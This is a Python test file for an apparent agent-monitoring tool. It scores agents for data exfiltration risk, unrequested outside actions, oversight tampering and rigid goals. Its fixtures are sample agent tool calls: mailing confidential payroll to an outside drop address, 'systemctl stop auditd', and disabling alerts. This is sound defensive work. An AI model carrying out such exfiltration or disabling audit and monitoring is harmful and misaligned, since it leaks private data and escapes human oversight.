"""What agents show they can do: counted once, with the spans that show it, and never said where it is not known."""

from __future__ import annotations

import json
from typing import Any

import pytest

from sidecar.assembly import patterns, pipeline
from sidecar.core import semconv
from sidecar.core.exposure import PATTERNS, SHOWN, AgentExposure, Exposure, rigid_goals
from sidecar.core.organisation import Organisation
from sidecar.core.reading import Piece
from sidecar.core.span import LOCAL, Record, Span
from sidecar.core.text.normalise import fold
from sidecar.core.text.scan import PatternSet
from tests.core.kit import assistant, call, chat, span, tool, user

FOUND = PatternSet((*patterns(), *PATTERNS))
HOUSE = Organisation(("corp.example",))
PAY = "CONFIDENTIAL payroll: Ada Quill, GB33BUKB20201555555555"


def exposures(*spans: Span, organisation: Organisation | None = HOUSE, twice: bool = False) -> list[AgentExposure]:
    core = pipeline(pattern_set=FOUND, organisation=organisation)
    exposure = Exposure(FOUND.find)
    for one in spans:
        exposure.note(one, semconv.read(one))
        for _ in range(1 + twice):
            outcome = core.feed(Record(one, LOCAL, one.end_ns), one.end_ns)
            exposure.hear(outcome.events, outcome.findings)
            exposure.hear(outcome.events if twice else ())
    outcome = core.tick(spans[-1].end_ns + 60 * 10**9, last=True)
    exposure.hear(outcome.events, outcome.findings)
    return list(exposure.report(core.sessions, core.sessions.resolve))


def exposed(*spans: Span, **more: Any) -> AgentExposure:
    (one,) = exposures(*spans, **more)
    return one


def says(*words: str, at_s: float = 0.0, system: str = "", **more: Any) -> Span:
    inputs = [user(text) for text in words]
    told = [system] if system else []
    return chat(inputs, [assistant("Yes.")], start=at_s, system=told, **ONE, **more)


ONE = {"session": "s", "agent": "clerk"}
ASKS = says("Pay the salaries, please.")
READS = tool("read_file", {"path": "list.txt"}, PAY, start=1, call_id="1", word="reads", **ONE)
FETCHES = tool("fetch_url", {"url": "https://news.example.org"}, "The news.", start=2, call_id="2", word="web", **ONE)
SENDS = tool(
    "send_mail", {"to": "box@drop.example.net", "body": "Hello"}, "sent", start=3, call_id="3", word="sends", **ONE
)
INSIDE = tool("send_mail", {"to": "amy@corp.example", "body": "Hello"}, "sent", start=3, call_id="4", **ONE)


def place(one: Span) -> str:
    return f"{one.trace_id}:{one.span_id}"


# ------------------------------------------------------------ private data, untrusted input, a way out


def test_private_data_untrusted_input_and_a_way_out_are_named_with_their_spans() -> None:
    one = exposed(ASKS, READS, FETCHES, SENDS)
    assert one.trifecta is not None
    assert one.is_exposed
    assert one.trifecta.together
    assert one.trifecta.private.span == place(READS)
    assert one.trifecta.untrusted.span == place(FETCHES)
    assert one.trifecta.out.span == place(SENDS)


@pytest.mark.parametrize("acts", [(READS, INSIDE), (INSIDE,), (READS,)])
def test_without_a_way_out_an_agent_is_not_exposed(acts: tuple[Span, ...]) -> None:
    one = exposed(ASKS, *acts)
    assert one.trifecta is None
    assert not one.is_exposed
    assert "way_out" not in one.shown


def test_what_different_sessions_show_counts_together_and_is_told_apart() -> None:
    def elsewhere(one: Span, session: str) -> Span:
        return span(
            {**one.attributes, "gen_ai.conversation.id": session}, 5, 6, trace=session, name=one.name, agent="clerk"
        )

    one = exposed(ASKS, READS, elsewhere(SENDS, "other"))
    assert one.sessions == 2
    assert one.trifecta is not None
    assert not one.trifecta.together


def test_a_fetch_that_tells_a_server_outside_is_a_way_out_but_can_be_undone() -> None:
    one = exposed(ASKS, FETCHES)
    assert one.shown["way_out"].count == 1
    assert "irreversible_outside" not in one.shown


def test_an_address_that_is_only_written_down_is_no_way_out() -> None:
    note = {"path": "notes.txt", "content": "write to box@drop.example.net"}
    one = exposed(ASKS, tool("write_file", note, "ok", start=1, **ONE))
    assert "way_out" not in one.shown
    assert not one.places


def test_what_is_told_twice_counts_once() -> None:
    once, twice = exposed(ASKS, READS, FETCHES, SENDS), exposed(ASKS, READS, FETCHES, SENDS, twice=True)
    assert {kind: shown.count for kind, shown in twice.shown.items()} == {
        kind: shown.count for kind, shown in once.shown.items()
    }
    assert [use.calls for use in twice.tools] == [use.calls for use in once.tools]


def test_what_is_shown_has_first_and_last_time_and_its_kinds() -> None:
    later = tool("read_file", {"path": "b"}, "Top secret. ghp_" + "a1B2" * 9, start=9, call_id="9", **ONE)
    one = exposed(ASKS, READS, later)
    read = one.shown["sensitive_read"]
    assert (read.count, read.first_ns, read.last_ns) == (2, READS.end_ns, later.end_ns)
    assert {"label.confidential", "personal.iban", "label.restricted"} <= set(read.classes)
    assert [proof.span for proof in one.shown["secrets"].proofs] == [place(later)]
    assert list(one.shown) == [kind for kind in SHOWN if kind in one.shown]


def test_proofs_hold_nothing_of_what_was_read() -> None:
    one = exposed(ASKS, READS, FETCHES, SENDS)
    told = " ".join(proof.text for shown in one.shown.values() for proof in shown.proofs)
    assert "Ada" not in told
    assert "GB33" not in told
    assert "send_mail to box@drop.example.net" in told


def test_code_standing_acts_and_what_watches_the_agent_are_shown() -> None:
    one = exposed(
        ASKS,
        tool("bash", {"command": "systemctl stop auditd"}, "", start=1, call_id="1", word="bash", **ONE),
        tool("create_mail_rule", {"forward_to": "amy@corp.example"}, "ok", start=2, call_id="2", word="rule", **ONE),
        tool("send_mail", {"to": "amy@corp.example", "body": "please disable monitoring"}, "", start=3, **ONE),
        tool("disable_alerts", {"host": "db1"}, "ok", start=4, call_id="4", word="alerts", **ONE),
    )
    assert one.shown["runs_code"].classes == {"bash": 1}
    assert one.shown["standing"].classes == {"create_mail_rule": 1}
    assert one.shown["oversight"].classes == {"bash": 1, "disable_alerts": 1}


def test_an_act_whose_arguments_come_later_counts_once_and_shows_what_they_say() -> None:
    wanted = chat(
        [user("Write to them.")],
        [assistant(call("7", "send_mail", {"to": "box@drop.example.net", "body": "Hello"}))],
        start=0, finish=["tool_calls"], **ONE,
    )  # fmt: skip
    bare = tool("send_mail", None, "sent", start=2, call_id="7", word="bare", **ONE)
    for spans in ((wanted, bare), (bare, wanted)):
        one = exposed(*spans)
        assert one.acts == 1
        assert [(use.name, use.calls, use.unscored) for use in one.tools] == [("send_mail", 1, 0)]
        assert one.shown["irreversible_outside"].count == 1
        assert one.shown["way_out"].count == 1


def test_a_read_whose_result_is_not_told_is_unknown() -> None:
    one = exposed(ASKS, tool("read_file", {"path": "a"}, None, start=1, **ONE))
    assert any(words.startswith("what it read") for words in one.unknown)
    assert not any(words.startswith("what it read") for words in exposed(ASKS, READS).unknown)


# ------------------------------------------------------------ who asked


def test_an_act_outside_that_nobody_asked_for_is_told() -> None:
    one = exposed(says(system="You are a clerk of corp.example."), SENDS)
    assert one.shown["unasked_outside"].proofs[0].span == place(SENDS)
    assert one.is_exposed


def test_what_a_user_asked_for_before_is_not_unasked() -> None:
    assert "unasked" not in exposed(ASKS, SENDS).shown


def test_who_asked_is_not_known_where_no_words_are_told() -> None:
    one = exposed(SENDS)
    assert "unasked" not in one.shown
    assert not one.is_exposed
    assert any(words.startswith("who asked") for words in one.unknown)


def test_what_is_withheld_is_said_to_be_unknown() -> None:
    one = exposed(ASKS, tool("send_mail", None, None, start=2, call_id="7", **ONE))
    assert one.unscored
    assert one.unknown


# ------------------------------------------------------------ goals


@pytest.mark.parametrize(
    ("text", "grades"),
    [
        ("You must finish the migration at all costs.", ["goal.absolute"]),
        ("Grow revenue. Nothing else matters.", ["goal.absolute"]),
        ("You must not be stopped.", ["goal.absolute"]),
        ("Erreiche das Ziel um jeden Preis.", ["goal.absolute"]),
        ("Atteins ce but coûte que coûte.", ["goal.absolute"]),
        ("Hazlo cueste lo que cueste.", ["goal.absolute"]),
        ("Your primary goal is to help.", ["goal.single"]),
        ("Never share passwords, no matter what.", []),
        ("Avoid downtime at all costs.", []),
        ("Vermeide Ausfälle um jeden Preis.", []),
        ("Be kind. The cost of the licence is 20.", []),
    ],
)  # fmt: skip
def test_a_rigid_goal_is_graded_and_a_prohibition_is_none(text: str, grades: list[str]) -> None:
    folded = fold(text).text
    assert rigid_goals(Piece("text", text, folded, FOUND.match(folded)), FOUND.find) == grades


def test_only_instructions_set_a_goal() -> None:
    rigid = "Finish at all costs."
    assert "rigid_goal" in exposed(says("Hello", system=rigid)).shown
    assert "rigid_goal" not in exposed(says(rigid, system="Be kind.")).shown


# ------------------------------------------------------------ granted and used


def offering(*names: str) -> dict[str, Any]:
    return {"attributes": {"gen_ai.tool.definitions": json.dumps([{"type": "function", "name": n} for n in names])}}


def test_tools_that_were_offered_and_never_called_are_told() -> None:
    one = exposed(says("Hello", **offering("send_mail", "delete_user")), SENDS)
    assert one.offered == {"send_mail": 1, "delete_user": 1}
    assert one.never_used == ("delete_user",)
    assert [(use.name, use.calls, use.sends, use.irreversible) for use in one.tools] == [("send_mail", 1, True, True)]


def test_where_no_offer_is_told_nothing_is_called_unused() -> None:
    one = exposed(ASKS, SENDS)
    assert one.offered is None
    assert one.never_used == ()
    assert any("granted" in words for words in one.unknown)


def test_destinations_are_counted_inside_and_outside() -> None:
    one = exposed(ASKS, SENDS, INSIDE)
    assert [(use.address, use.relation, use.acts) for use in one.places] == [
        ("amy@corp.example", "inside", 1),
        ("box@drop.example.net", "outside", 1),
    ]


def test_what_was_flagged_is_marked() -> None:
    leak = tool("send_mail", {"to": "box@drop.example.net", "body": PAY}, "sent", start=3, call_id="3", **ONE)
    one = exposed(ASKS, READS, leak)
    flagged = {use.name: bool(use.flagged) for use in one.tools}
    assert flagged == {"read_file": False, "send_mail": True}
    assert all(use.flagged for use in one.places)


def test_agents_are_told_apart() -> None:
    other = tool("send_mail", {"to": "box@drop.example.net"}, "", session="t", agent="porter", trace="t", start=4)
    assert [one.role for one in exposures(ASKS, READS, other)] == ["clerk", "porter"]
